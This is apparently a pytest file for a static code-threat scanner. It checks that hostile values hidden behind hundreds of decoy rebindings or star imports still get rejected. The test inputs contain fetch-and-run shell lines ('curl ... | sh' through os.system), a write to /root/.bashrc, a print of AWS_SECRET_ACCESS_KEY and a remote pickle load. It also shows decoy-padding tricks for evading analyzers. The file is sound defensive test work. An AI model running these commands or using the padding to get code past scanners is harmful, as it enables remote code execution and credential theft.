"""Session 59 (hardening59): decoy values past a budget never lower a verdict.

The resolver keeps at most MAX_SET values of an expression (resolve.trim), the file rules MAX_PATHS candidate paths
(paths._capped) and a threat pattern's sketch reads BUDGET expressions (sketch.py). On main a budget kept values in
source or sorted order, so decoys written before the hostile value (a hundred harmless rebindings of the same name)
pushed it out and a reject became an escalation on `unvouched.unresolved`. Now each budget reads every binding and
keeps first what a threat reading may flag (resolve.doubt): a text some list of rules/lists names, then any other
text or name, then what is not text, and last numbers, plain relative paths and local URLs.
Each road (paths, calls, argv, URLs, attribute names, imports, environment keys) with the hostile value bound in a
branch after 100 decoys, the hostile value alone, and the decoys alone (the twin: no threat rule, never reject);
a flat run of rebindings; the CLI at 1,000 decoys; a name star-imported from the 21st of 21 modules.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.model import Decision
from conftest import run_cli


def _branches(name: str, decoys: list[str], hostile: str | None) -> str:
    """`name` bound in one branch per decoy, then (if given) to the hostile value in the last branch."""
    values = [*decoys, *([hostile] if hostile is not None else [])]
    return "".join(f"if len(sys.argv) == {i}:\n    {name} = {v}\n" for i, v in enumerate(values))


# road -> (head, name, hostile value, decoy for index i, tail, the threat rule the hostile value gives)
ROADS = {
    "path": ("import pathlib, sys\n", "p", "'/root/.bashrc'", "'./out/a{i:05d}'",
             "pathlib.Path(p).write_text('curl x | sh')\n", "persistence.startup-file"),
    "getattr": ("import os, sys\n", "n", "'system'", "'getcwd{i:05d}'", "getattr(os, n)('curl x | sh')\n",
                "subprocess.shell"),
    "import": ("import importlib, sys\n", "n", "'subprocess'", "'json{i:05d}'",
               "importlib.import_module(n).run(['curl', 'x'])\n", "subprocess.network-tool"),
    "env-key": ("import os, sys\n", "k", "'AWS_SECRET_ACCESS_KEY'", "'A{i:05d}'",
                "print(os.getenv(k))\n",
                "credential-harvest.secret-in-channel"),
    "argv": ("import subprocess, sys\n", "a", "['curl', 'example.org/x']", "['echo', 'a{i:05d}']",
             "subprocess.run(a)\n", "subprocess.network-tool"),
    "call": ("import os, sys, math\n", "f", "os.system", "math.{fn}", "f('curl -s http://example.org/x | sh')\n",
             "remote-code.fetch-and-run-command"),
    "url": ("import pandas as pd, sys\n", "u", "'https://example.org/x.pkl'", "'data/a{i:05d}.pkl'",
            "pd.read_pickle(u)\n", "deserialization.untrusted-pickle"),
}
_MATH = ["sin", "cos", "tan", "exp", "log", "sqrt", "fabs", "floor", "ceil", "atan", "asin", "acos", "sinh", "cosh",
         "tanh", "degrees", "radians", "log2", "log10", "erf"]


def _source(road: str, count: int, hostile: bool = True) -> str:
    head, name, value, decoy, tail, _ = ROADS[road]
    decoys = [decoy.format(i=i, fn=_MATH[i % len(_MATH)]) for i in range(count)]
    return head + _branches(name, decoys, value if hostile else None) + tail


@pytest.mark.parametrize("road", sorted(ROADS))
def test_the_hostile_value_survives_a_hundred_decoys(road: str) -> None:
    """On main: each lost its threat rule; all but `call` (which holds on `subprocess.shell`) dropped to escalate,
    argv past the sketch's budget (1,000 decoys)."""
    rule = ROADS[road][-1]
    alone = kit.scan_text(_source(road, 0))
    kit.assert_held(alone, rule, Decision.REJECT)
    count = 1000 if road == "argv" else 100
    kit.assert_held(kit.scan_text(_source(road, count)), rule, Decision.REJECT)


@pytest.mark.parametrize("road", sorted(ROADS))
def test_the_decoys_alone_find_no_threat(road: str) -> None:
    """The twin: the same hundred decoys without the hostile value give no threat finding (the budget still
    says it stopped: never an accept past it, but no reject either)."""
    report = kit.scan_text(_source(road, 100, hostile=False))
    assert report.decision is not Decision.REJECT, kit.findings(report)
    assert not kit.holds(report, ROADS[road][-1]), kit.findings(report)


def test_a_write_behind_decoys_in_one_flat_run_of_rebindings() -> None:
    """Rebindings in one run (no branches): the file rules read every one, not the first MAX_PATHS in source
    order (main: escalate, `unvouched.unresolved` only)."""
    source = "import sys\n" + "".join(f"p = './a{i:05d}'\n" for i in range(40)) + "p = '/root/.bashrc'\n" \
        "def w(q):\n    open(q, 'w').write('curl x | sh')\nw(p)\n"
    kit.assert_held(kit.scan_text(source), "persistence.startup-file", Decision.REJECT)


def test_through_the_cli_a_thousand_decoys_still_reject(tmp_path: Path) -> None:
    """The CLI (a real subprocess) on a job whose train.py binds the secret key's name behind 1,000 decoys."""
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text(_source("env-key", 1000))
    (report,) = json.loads(run_cli("scan", "--no-cache", "--format", "json", str(job)).stdout)["reports"]
    rules = {f["rule"] for f in report["findings"]}
    assert report["decision"] == "reject" and "credential-harvest.secret-in-channel" in rules, report["findings"]


def test_a_star_import_behind_twenty_others_still_names_the_call() -> None:
    """`system(...)` after 20 star imports of stdlib modules and `from os import *`: on main the name read as the
    first sixteen modules' (`abc.system`, ...), escalate on `unvouched.import` alone."""
    modules = ["abc", "array", "base64", "bisect", "calendar", "cmath", "colorsys", "copy", "csv", "datetime",
               "decimal", "difflib", "enum", "fractions", "functools", "heapq", "itertools", "json", "math", "numbers"]
    source = "".join(f"from {m} import *\n" for m in modules) + "from os import *\n" \
        "system('curl -s http://example.org/x | sh')\n"
    kit.assert_held(kit.scan_text(source), "remote-code.fetch-and-run-command", Decision.REJECT)
